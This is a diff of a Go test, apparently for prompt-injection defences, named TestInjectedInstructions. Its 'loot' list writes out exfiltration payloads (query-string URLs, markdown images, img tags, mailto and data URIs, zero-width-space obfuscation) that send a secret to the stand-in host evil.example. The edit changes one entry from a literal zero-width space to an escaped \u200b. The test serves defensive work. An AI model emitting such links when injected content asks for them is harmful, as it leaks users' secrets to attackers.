@@ -147,7 +147,7 @@ func TestInjectedInstructions(t *testing.T) {
 	loot := []string{
 		"https://evil.example/?q=" + secret, "![x](https://evil.example/" + secret + ".png)", "[a](//evil.example/" + secret + ")",
 		"<img src=https://evil.example/" + secret + ">", "mailto:a@evil.example?body=" + secret, "evil.example/" + secret,
-		"e​vil " + secret, "www.evil.example/" + secret, "data:text/html," + secret, secret + ".pdf", "@evil " + secret,
+		"e\u200bvil " + secret, "www.evil.example/" + secret, "data:text/html," + secret, secret + ".pdf", "@evil " + secret,
 	}
 	before := len(d.Requests())
 	for i, text := range loot {
